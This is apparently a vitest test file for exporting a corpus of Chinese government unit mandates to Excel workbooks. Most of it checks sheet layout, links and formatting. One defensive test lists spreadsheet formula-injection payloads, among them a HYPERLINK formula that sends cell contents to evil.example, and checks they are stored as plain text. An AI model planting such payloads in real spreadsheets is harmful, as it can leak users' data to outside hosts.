import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Corpus } from '../../src/corpus/model.js';
import { noteText } from '../../src/corpus/notes.js';
import { shortIdNamer } from '../../src/corpus/short-ids.js';
import { corpusWorkbook } from '../../src/render/corpus-tables.js';
import { displayWidth } from '../../src/render/wrap.js';
import { columnWidths, renderXlsx, sheetNames } from '../../src/render/xlsx.js';
import { bundledCorpus, corpusFromYaml } from '../helpers/corpus.js';
import { zipEntry } from '../helpers/zip.js';

const CREATED = new Date('2026-01-02T03:04:05Z');

function spec(corpus: Corpus) {
  return corpusWorkbook(corpus.units, { idOf: shortIdNamer(corpus), creator: 'mandates test', created: CREATED });
}

async function load(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ExcelJS.Buffer);
  return wb;
}

function rowValues(ws: ExcelJS.Worksheet, r: number): unknown[] {
  return (ws.getRow(r).values as unknown[]).slice(1);
}

/** The style (cellXfs entry) of a cell, as raw XML. */
function cellXf(buffer: Buffer, sheet: number, address: string): string {
  const xml = zipEntry(buffer, `xl/worksheets/sheet${sheet}.xml`)!;
  const s = new RegExp(`<c r="${address}"(?: s="(\\d+)")?`).exec(xml);
  expect(s, `cell ${address} in sheet ${sheet}`).not.toBeNull();
  const styles = zipEntry(buffer, 'xl/styles.xml')!;
  const xfs = /<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)![1]!.match(/<xf\b[^>]*>/g)!;
  return xfs[Number(s![1] ?? 0)]!;
}

describe('xlsx export of the bundled corpus', () => {
  let corpus: Corpus;
  // Both ways of writing strings: the shared-string table (small workbooks) and in the cells (large ones).
  const variants: Record<string, Buffer> = {};
  const books: Record<string, ExcelJS.Workbook> = {};

  beforeAll(async () => {
    corpus = await bundledCorpus();
    variants.shared = await renderXlsx(spec(corpus));
    variants.inline = await renderXlsx(spec(corpus), { sharedStringsMaxRows: 0 });
    for (const [k, b] of Object.entries(variants)) books[k] = await load(b);
  });

  it('writes strings to the shared table when small and into the cells when large', () => {
    expect(zipEntry(variants.shared!, 'xl/sharedStrings.xml')).toBeDefined();
    expect(zipEntry(variants.inline!, 'xl/sharedStrings.xml')).toBeUndefined();
    expect(zipEntry(variants.inline!, 'xl/worksheets/sheet2.xml')).toContain('t="str"><v>承担部机关后勤服务保障工作');
  });

  for (const variant of ['shared', 'inline']) {
    describe(`strings ${variant}`, () => {
      it('has an overview, an all-duties sheet, one sheet per unit, named after them, and the documents last', () => {
        const wb = books[variant]!;
        expect(wb.worksheets.map((w) => w.name)).toEqual(['概览', '全部职能', ...corpus.units.map((u) => u.name), '文件']);
      });

      it('lists every unit on the overview with its document, duty count and id', () => {
        const ws = books[variant]!.getWorksheet('概览')!;
        expect(rowValues(ws, 1)).toEqual(['单位', '对外称', '职能数', 'ID', '文件标题', '文号', '发文机关', '日期', '备注', '标题', '别名']);
        expect(ws.rowCount).toBe(7);
        corpus.units.forEach((u, i) => {
          const row = rowValues(ws, i + 2);
          expect(row[0]).toBe(u.name);
          expect(row[2]).toBe(u.duties.length);
          expect(row.slice(3, 8)).toEqual([u.key, u.doc.title, '商办发〔2003〕9号', '中华人民共和国商务部', '2003-06-26']);
          expect(row[8] ?? '').toBe(u.notes.map((n) => noteText(n, 'zh')).join('\n')); // editorial notes: 投资促进中心's heading
          expect(row[1] ?? '').toBe(u.externalName ?? '');
          expect([row[9] ?? '', row[10] ?? '']).toEqual([u.heading ?? '', u.aliases.join('、')]);
        });
      });

      it('has all 60 duties on the all-duties sheet, in reading order, with numbering, text and id', () => {
        const ws = books[variant]!.getWorksheet('全部职能')!;
        expect(rowValues(ws, 1)).toEqual(['文件', '单位', '序号', '职能', 'ID']);
        expect(ws.rowCount).toBe(61);
        corpus.duties.forEach((d, i) => {
          expect(rowValues(ws, i + 2)).toEqual(['商办发〔2003〕9号', d.unit.name, d.numbering, d.text, `${d.unit.key}/${d.path}`]);
        });
        expect(ws.autoFilter).toBe('A1:E61');
        // The hidden name Excel writes beside an autofilter, without which LibreOffice drops it.
        const workbook = zipEntry(variants[variant]!, 'xl/workbook.xml')!.replace(/&apos;/g, "'");
        expect(workbook).toContain(`<definedName name="_xlnm._FilterDatabase" localSheetId="1">'全部职能'!$A$1:$E$61</definedName>`);
        expect(workbook).toContain(`<definedName name="_xlnm._FilterDatabase" localSheetId="0">'概览'!$A$1:$K$7</definedName>`);
        // Printed, every sheet repeats its header row.
        expect(workbook.match(/name="_xlnm.Print_Titles" localSheetId="\d+">'[^']+'!\$1:\$1</g)).toHaveLength(9);
      });

      it('gives each unit a sheet with its section rows, then their duties, sub-items indented, label as printed last', () => {
        const wb = books[variant]!;
        let seen = 0;
        for (const u of corpus.units) {
          const ws = wb.getWorksheet(u.name)!;
          expect(rowValues(ws, 1)).toEqual(['序号', '职能', 'ID', '编号']);
          // Reading order: a section's row (label, title), its preamble row, then its duties.
          const expected = u.sections.length === 0
            ? u.duties.map((d) => d)
            : u.sections.flatMap((s) => [s, ...(s.preamble !== undefined ? [s.preamble] : []), ...u.duties.filter((d) => d.section === s)]);
          expect(ws.rowCount).toBe(expected.length + 1);
          expected.forEach((item, i) => {
            const row = ws.getRow(i + 2);
            const values = rowValues(ws, i + 2).map((c) => c ?? '');
            if (typeof item === 'string') {
              expect([values[0] ?? '', values[1]]).toEqual(['', item]);
            } else if ('title' in item) {
              expect([values[0], values[1], values[2] ?? '']).toEqual([item.label ?? '', item.title, '']);
            } else {
              expect([values[0], values[1], values[2], values[3] ?? '']).toEqual([item.numbering, item.text, `${u.key}/${item.path}`, item.label ?? '']);
              expect(row.getCell(2).alignment?.indent ?? 0).toBe(item.depth);
              seen++;
            }
          });
        }
        expect(seen).toBe(60);
      });

      it('freezes a bold header row and wraps text in a font that renders Chinese', () => {
        for (const ws of books[variant]!.worksheets) {
          expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1, topLeftCell: 'A2' });
          ws.getRow(1).eachCell((c) => expect(c.font?.bold).toBe(true));
          const body = ws.getRow(2).getCell(ws.name === '概览' ? 1 : 2);
          expect(body.alignment?.wrapText).toBe(true);
          expect(body.font?.name).toBe('等线');
        }
        // The default (Normal) font too, which Excel measures column widths in.
        expect(zipEntry(variants[variant]!, 'xl/styles.xml')).toMatch(/<fonts[^>]*><font><sz val="11"\/><name val="等线"\/>/);
      });

      it('sizes columns to their text, CJK counting two, capped so long text wraps', () => {
        const wb = books[variant]!;
        const all = wb.getWorksheet('全部职能')!;
        const unitWidth = Math.max(...corpus.units.map((u) => displayWidth(u.name)));
        expect(all.getColumn(2).width).toBe(unitWidth + 2); // 国际经济合作事务局: 9 characters, 18 columns
        expect(all.getColumn(4).width).toBe(72); // capped at 70 + padding: duties run to 200 characters
        const unit = wb.getWorksheet('配额许可证事务局')!;
        expect(unit.getColumn(1).width).toBe(6); // 一、… the minimum
        expect(unit.getColumn(3).width).toBe(displayWidth('pexkzswj/9') + 2);
        // A long duty gets a row tall enough for its wrapped lines; a short one keeps the default.
        expect(unit.getRow(4).height).toBeGreaterThan(30);
        expect(unit.getRow(10).height ?? 15).toBe(15);
      });

      it('links each overview row to its unit sheet, within the workbook', () => {
        const xml = zipEntry(variants[variant]!, 'xl/worksheets/sheet1.xml')!;
        const links = [...xml.matchAll(/<hyperlink ([^>]*)\/>/g)].map((m) => m[1]!.replace(/&apos;/g, "'"));
        expect(links).toEqual(corpus.units.map((u, i) => `ref="A${i + 2}" location="'${u.name}'!A1"`));
        // No relationship: an external one would send LibreOffice to another file.
        expect(zipEntry(variants[variant]!, 'xl/worksheets/_rels/sheet1.xml.rels')).toBeUndefined();
        const a2 = books[variant]!.getWorksheet('概览')!.getCell('A2');
        expect(a2.font?.underline).toBe(true);
      });

      it('sets workbook properties', () => {
        const wb = books[variant]!;
        expect(wb.title).toBe(corpus.documents[0]!.title);
        expect(wb.creator).toBe('mandates test');
        expect(wb.subject).toBe('机构主要职能');
        expect(wb.created.toISOString()).toBe(CREATED.toISOString());
      });
    });
  }
});

describe('xlsx text stays text', () => {
  const DANGEROUS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', '+1+2', '-3+4', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
  const yaml = `mandates: 1
id: inj
title: 注入测试
units:
  - id: u1
    name: "=危险单位"
    duties:
${DANGEROUS.map((t) => `      - text: ${JSON.stringify(t)}`).join('\n')}
      - label: 一、
        text: 普通职能。
`;

  for (const variant of ['shared', 'inline']) {
    it(`writes = + - @ tab and CR as plain strings with quotePrefix, never formulas (strings ${variant})`, async () => {
      const corpus = corpusFromYaml(yaml);
      const buffer = await renderXlsx(spec(corpus), { sharedStringsMaxRows: variant === 'shared' ? 1000 : 0 });
      const wb = await load(buffer);
      const ws = wb.getWorksheet('全部职能')!;
      DANGEROUS.forEach((text, i) => {
        const cell = ws.getCell(`D${i + 2}`);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        // XML reads a carriage return in text back as a line feed; the text stays text either way.
        expect(cell.value).toBe(text.replace(/\r/g, '\n'));
        expect(cellXf(buffer, 2, `D${i + 2}`)).toContain('quotePrefix="1"');
      });
      expect(cellXf(buffer, 2, `D${DANGEROUS.length + 2}`)).not.toContain('quotePrefix');
      for (let sheet = 1; sheet <= 3; sheet++) expect(zipEntry(buffer, `xl/worksheets/sheet${sheet}.xml`)).not.toContain('<f>');
      // The unit's name, a link on the overview, is protected too.
      expect(wb.getWorksheet('概览')!.getCell('A2').value).toBe('=危险单位');
      expect(cellXf(buffer, 1, 'A2')).toContain('quotePrefix="1"');
      // No unit or duty here has notes: no notes column.
      expect(rowValues(wb.getWorksheet('全部职能')!, 1)).toEqual(['文件', '单位', '序号', '职能', 'ID']);
    });
  }
});

describe('xlsx notes', () => {
  it('get a column on the unit and all-duties sheets when a duty has them', async () => {
    const corpus = corpusFromYaml(`mandates: 1
id: n
title: 注释
units:
  - id: a
    name: 甲
    duties:
      - { label: 一、, text: 第一项。, notes: [原文如此。, 另一条。] }
      - { label: 二、, text: 第二项。 }
`);
    const wb = await load(await renderXlsx(spec(corpus)));
    expect(rowValues(wb.getWorksheet('全部职能')!, 1)).toEqual(['文件', '单位', '序号', '职能', 'ID', '备注']);
    expect(rowValues(wb.getWorksheet('甲')!, 2)).toEqual(['一', '第一项。', 'a/1', '原文如此。\n另一条。', '一、']);
    expect(rowValues(wb.getWorksheet('概览')!, 1)).not.toContain('备注');
  });
});

describe('xlsx of several documents', () => {
  it('names same-named units apart and links each overview row to its own sheet', async () => {
    const doc = (id: string, title: string) => `mandates: 1
id: ${id}
title: ${title}
number: 示发〔2024〕${id.length}号
units:
  - id: jg
    name: 机关服务中心
    duties:
      - { label: 一、, text: ${title}的职能。 }
`;
    const corpus = corpusFromYaml(`${doc('a', '甲通知')}---\n${doc('bb', '乙通知')}`);
    const buffer = await renderXlsx(spec(corpus));
    const wb = await load(buffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['概览', '全部职能', '机关服务中心', '机关服务中心 (2)', '文件']);
    expect(wb.title).toBe('机构主要职能（2 个文件）');
    expect(wb.getWorksheet('机关服务中心 (2)')!.getCell('B2').value).toBe('乙通知的职能。');
    expect(wb.getWorksheet('概览')!.getCell('D3').value).toBe('bb/jg'); // ids qualified where units share one
    const links = [...zipEntry(buffer, 'xl/worksheets/sheet1.xml')!.matchAll(/location="([^"]+)"/g)].map((m) => m[1]!.replace(/&apos;/g, "'"));
    expect(links).toEqual(["'机关服务中心'!A1", "'机关服务中心 (2)'!A1"]);
    expect(rowValues(wb.getWorksheet('全部职能')!, 3)).toEqual(['示发〔2024〕2号', '机关服务中心', '一', '乙通知的职能。', 'bb/jg/1']);
  });
});

describe('sheet names', () => {
  it('are at most 31 characters, without []:*?/\\, unique ignoring case, never History', () => {
    const names = sheetNames([
      '机关服务中心', '机关服务中心', 'a[b]c:d*e?f/g\\h', 'x'.repeat(40), 'X'.repeat(40), "'引号'", '', 'History', '单位!甲', '😀'.repeat(20),
    ]);
    expect(names).toEqual([
      '机关服务中心', '机关服务中心 (2)', 'a_b_c_d_e_f_g_h', 'x'.repeat(31), `${'X'.repeat(27)} (2)`, '引号', 'Sheet', 'History (2)', '单位_甲', '😀'.repeat(15),
    ]);
    for (const n of names) expect(n.length).toBeLessThanOrEqual(31);
  });

  it('leave room for text up to the column cap', () => {
    const widths = columnWidths({ key: 'k', name: 'n', columns: [{ header: '职能', maxWidth: 10 }], rows: [['一二三四五六七八九十']] });
    expect(widths).toEqual([12]);
  });
});

describe('xlsx: nothing of the document or its units left out', () => {
  it('puts the document head on the last sheet and each unit’s own fields on the overview', async () => {
    const corpus = corpusFromYaml(`mandates: 1
id: d
title: 关于印发某局主要职责内设机构和人员编制规定的通知
number: 示发〔2024〕1号
issuer: 示例机关
dateText: 二〇二四年一月二日
recipients: [各处室, 各单位]
body: "现将规定印发给你们。\\n请遵照执行。"
attachment: { label: 附件, reference: 某局规定 }
notes: [文件注。]
units:
  - id: a
    name: 某局
    heading: 某局主要职责内设机构和人员编制规定
    preamble: 根据有关规定，制定本规定。
    staffing: 机关行政编制20名。
    sections:
      - { label: 一、, title: 主要职责, preamble: 某局负责：, duties: [{ label: （一）, text: 第一项。 }] }
  - id: b
    name: 办公室
    parent: a
    duties: [{ text: 处理日常工作。 }]
`);
    const wb = await load(await renderXlsx(spec(corpus)));
    const docs = wb.getWorksheet('文件')!;
    expect(rowValues(docs, 1)).toEqual(['文件标题', '文号', '文号（原文）', '发文机关', '成文日期', '主送机关', '正文', '附件', '备注']);
    const head = Object.fromEntries(rowValues(docs, 1).map((h, i) => [h, rowValues(docs, 2)[i]]));
    expect(head).toMatchObject({
      文件标题: '关于印发某局主要职责内设机构和人员编制规定的通知',
      发文机关: '示例机关',
      成文日期: '二〇二四年一月二日',
      主送机关: '各处室、各单位',
      正文: '现将规定印发给你们。\n请遵照执行。',
      附件: '附件：某局规定',
      备注: '文件注。',
    });
    const overview = wb.getWorksheet('概览')!;
    const unit = (r: number) => Object.fromEntries(rowValues(overview, 1).map((h, i) => [h, rowValues(overview, r)[i]]));
    expect(unit(2)).toMatchObject({ 内设机构: '办公室', 标题: '某局主要职责内设机构和人员编制规定', 序言: '根据有关规定，制定本规定。', 人员编制: '机关行政编制20名。' });
    expect(unit(3)).toMatchObject({ 单位: '办公室' });
    // The department's parent links to the parent's sheet.
    const buffer = await renderXlsx(spec(corpus));
    const col = String.fromCharCode(65 + rowValues(overview, 1).indexOf('所属'));
    const links = [...zipEntry(buffer, 'xl/worksheets/sheet1.xml')!.matchAll(/<hyperlink ([^>]*)\/>/g)].map((m) => m[1]!.replace(/&apos;/g, "'"));
    expect(links).toContain(`ref="${col}3" location="'某局'!A1"`);
    const sheet = wb.getWorksheet('某局')!;
    expect([2, 3, 4].map((r) => rowValues(sheet, r).slice(0, 2))).toEqual([['一、', '主要职责'], ['', '某局负责：'], ['一（一）', '第一项。']]);
  });
});
